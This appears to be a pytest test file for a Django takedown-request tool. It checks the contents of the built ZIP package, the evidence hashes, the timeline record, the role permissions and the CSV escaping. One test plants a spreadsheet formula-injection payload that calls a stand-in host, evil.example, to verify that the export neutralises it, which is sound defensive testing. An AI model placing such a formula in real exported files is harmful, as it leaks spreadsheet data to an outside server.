"""The request package: what the ZIP holds, its hash in the timeline, who may build it."""

import csv
import hashlib
import io
import zipfile

import pytest

from core.errors import Conflict, NotAllowed
from takedowns.choices import EventKind
from takedowns.letters.models import LetterTemplate
from takedowns.letters.services import takedown_package_build
from takedowns.models import TakedownEvent

from .conftest import URDU_NAME

pytestmark = pytest.mark.django_db


def _zip(package) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(package.file.read()))


def test_package_holds_letter_csv_evidence_and_checksums(package_request, supervisor):
    package = takedown_package_build(takedown=package_request, user=supervisor)
    archive = _zip(package)
    folder = package_request.reference

    names = set(archive.namelist())
    assert {f"{folder}/letter.pdf", f"{folder}/accounts.csv", f"{folder}/SHA256SUMS"} <= names
    evidence_files = sorted(n for n in names if "/evidence/" in n)
    assert len(evidence_files) == 3
    # Every evidence file is the captured bytes: its SHA-256 is the one recorded at capture.
    recorded = {e.sha256 for e in package_request.evidence}
    assert {hashlib.sha256(archive.read(n)).hexdigest() for n in evidence_files} == recorded
    sums = dict(
        line.split("  ")[::-1]
        for line in archive.read(f"{folder}/SHA256SUMS").decode().split("\n")
        if line
    )
    for name, sha in sums.items():
        assert hashlib.sha256(archive.read(f"{folder}/{name}")).hexdigest() == sha


def test_package_csv_lists_the_same_accounts_with_their_hashes(package_request, supervisor):
    archive = _zip(takedown_package_build(takedown=package_request, user=supervisor))
    text = archive.read(f"{package_request.reference}/accounts.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))

    assert [r["handle"] for r in rows] == ["sada_e_haq", "nawa_media", "al_fath_26"]
    assert rows[0]["display_name"] == URDU_NAME
    assert rows[0]["platform_account_id"] == "1442001"
    urdu, plain, _bare = package_request.accounts_in_order
    assert set(rows[0]["evidence_sha256"].split()) == set(
        urdu.evidence.values_list("sha256", flat=True)
    )
    assert rows[1]["evidence_sha256"] == plain.evidence.get().sha256
    assert rows[2]["evidence_sha256"] == ""


def test_package_sha256_is_recorded_in_the_timeline(package_request, supervisor):
    package = takedown_package_build(takedown=package_request, user=supervisor)
    body = package.file.read()

    event = TakedownEvent.objects.get(request=package_request, kind=EventKind.PACKAGE_BUILT)
    assert event.data["sha256"] == hashlib.sha256(body).hexdigest() == package.sha256
    assert event.data["size"] == len(body)
    assert event.actor == supervisor
    assert package.sha256 in event.message


def test_analyst_may_not_build_a_package(package_request, analyst):
    with pytest.raises(NotAllowed):
        takedown_package_build(takedown=package_request, user=analyst)
    assert not TakedownEvent.objects.filter(kind=EventKind.PACKAGE_BUILT).exists()


def test_without_any_template_the_package_is_refused(package_request, supervisor):
    LetterTemplate.objects.all().delete()
    with pytest.raises(Conflict) as refused:
        takedown_package_build(takedown=package_request, user=supervisor)
    assert refused.value.code == "no_letter_template"


def test_package_csv_guards_a_cell_a_spreadsheet_would_run(package_request, supervisor):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    account = package_request.accounts_in_order[1]
    account.display_name = hostile
    account.save(update_fields=["display_name"])

    archive = _zip(takedown_package_build(takedown=package_request, user=supervisor))
    text = archive.read(f"{package_request.reference}/accounts.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))

    assert rows[1]["display_name"] == "'" + hostile
    assert rows[0]["display_name"] == URDU_NAME  # ordinary text is left as it is
